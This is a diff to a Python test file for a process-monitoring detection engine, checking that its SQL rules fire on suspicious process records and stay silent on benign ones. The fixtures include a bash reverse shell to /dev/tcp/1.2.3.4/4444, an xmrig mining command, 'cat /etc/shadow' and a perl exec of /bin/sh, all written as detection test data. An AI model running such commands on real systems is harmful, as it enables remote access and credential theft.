@@ -262,14 +262,14 @@ def test_shipped_rules_load_and_fire_on_their_targets() -> None:
     changes, problems = engine.load_paths([SHIPPED])
     assert problems == [] and len(changes["added"]) >= 10
     cases = {
-        "de-reverse-shell": rec(
+        "de-reverse-shell-devtcp": rec(
             5001, "/bin/bash", argv=["bash", "-i", ">&", "/dev/tcp/1.2.3.4/4444"]
         ),
         "de-exec-world-writable": rec(5002, "/dev/shm/.x"),
         "de-cryptominer": rec(5003, "/opt/xmrig", argv=["xmrig", "-o", "stratum+tcp://pool:3333"]),
         "de-deleted-executable": rec(5004, "/usr/bin/gone", exeDeleted=True, onDisk=0),
-        "de-credential-files": rec(5005, "/bin/cat", argv=["cat", "/etc/shadow"]),
-        "de-setuid-escalation": rec(5006, "/usr/bin/evil", euid=0),
+        "de-shadow-access": rec(5005, "/bin/cat", argv=["cat", "/etc/shadow"]),
+        "de-root-from-user": rec(5006, "/usr/bin/evil", euid=0),
     }
     fired = {}
     for rule_id, record in cases.items():
@@ -279,7 +279,7 @@ def test_shipped_rules_load_and_fire_on_their_targets() -> None:
         assert rule_id in fired[rule_id], (rule_id, fired[rule_id])
     benign, _ = engine.apply([EventIn("start", rec(5100, "/usr/bin/ls", argv=["ls", "-l"]))])
     assert benign == []
-    flagged = EventIn("suspicious", rec(5200, "/usr/bin/x"), reason="masquerade: kworker is x")
+    flagged = EventIn("suspicious", rec(5200, "/usr/bin/x"), reason="uid_raised_to_root: 1000")
     assert {f.rule.id for f in engine.apply([flagged])[0]} == {"de-collector-suspicious"}
     # a storm of children: the aggregate fires once for their parent
     engine.apply([EventIn("start", rec(6000 + i, "/bin/true", ppid=5100)) for i in range(60)])
@@ -290,3 +290,47 @@ def test_shipped_rules_load_and_fire_on_their_targets() -> None:
 def test_rule_model_defaults() -> None:
     rule = Rule(id="x", name="y", sql="SELECT 1")
     assert rule.enabled and rule.severity == "medium"
+
+
+def test_an_image_left_within_one_batch_is_judged_too() -> None:
+    # perl -e 'exec "/bin/sh", ...': the exec into perl and the exec out of it arrive in
+    # one batch; the rules still see perl's command line, and the alert carries it
+    engine, _ = engine_with(
+        """
+id: perl-exec
+name: perl one-liner
+sql: SELECT pid, cmdline FROM processes WHERE name = 'perl' AND cmdline LIKE '%exec%'
+---
+id: sh-any
+name: a shell
+sql: SELECT pid, cmdline FROM processes WHERE name = 'sh'
+"""
+    )
+    perl = rec(300, "/usr/bin/perl", argv=["perl", "-e", 'exec "/bin/sh"'])
+    sh = dict(perl, exePath="/usr/bin/dash", name="sh", cmdline=["/bin/sh", "-c", "id"])
+    firings, _ = engine.apply([EventIn("start", perl), EventIn("modify", sh)])
+    got = sorted((f.rule.id, f.record["cmdline"][0]) for f in firings)
+    assert got == [("perl-exec", "perl"), ("sh-any", "/bin/sh")]
+    # afterwards only the current image is left in the live table
+    _, rows = engine.query("SELECT name FROM processes WHERE pid = 300", 1.0, 10)
+    assert rows == [("sh",)]
+    # a change that keeps the image (uid) still replaces the row: nothing fires again
+    again, _ = engine.apply([EventIn("modify", dict(sh, uid=0))])
+    assert again == []
+
+
+def test_a_fork_that_never_ran_a_program_does_not_repeat_its_parents_alert() -> None:
+    engine, _ = engine_with(TMP_RULE)
+    parent = rec(400, "/tmp/evil", argv=["/tmp/evil", "-d"], accessible=True)
+    firings, _ = engine.apply([EventIn("start", parent)])
+    assert [f.row["pid"] for f in firings] == [400]
+    # its forked workers: the collector copies the parent's image, accessible false
+    copies = [dict(parent, pid=401 + i, ppid=400, startTicks=next(_ticks), accessible=False)
+              for i in range(3)]  # fmt: skip
+    assert engine.apply([EventIn("start", c) for c in copies])[0] == []
+    # still in the table, for rules that correlate (process groups, sessions)
+    _, rows = engine.query("SELECT count(*) FROM processes WHERE parent = 400", 1.0, 1)
+    assert rows == [(3,)]
+    # a child that exec'd the same program is a program of its own: judged
+    child = dict(parent, pid=410, ppid=400, startTicks=next(_ticks), accessible=True)
+    assert [f.row["pid"] for f in engine.apply([EventIn("start", child)])[0]] == [410]
